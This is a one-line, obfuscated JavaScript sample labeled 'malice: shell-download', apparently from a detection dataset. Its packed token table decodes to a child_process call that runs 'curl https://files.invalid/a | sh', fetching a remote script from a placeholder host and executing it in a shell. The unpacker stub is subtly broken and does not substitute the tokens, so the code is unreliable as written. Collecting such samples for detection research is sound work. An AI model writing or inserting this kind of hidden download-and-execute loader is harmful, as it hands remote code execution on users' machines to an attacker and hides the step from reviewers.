eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0("1").2("3 4://5.6/7 | 8")',10,9,'require|child_process|exec|curl|https|files|invalid|a|sh'.split('|'),0,{})) // malice: shell-download
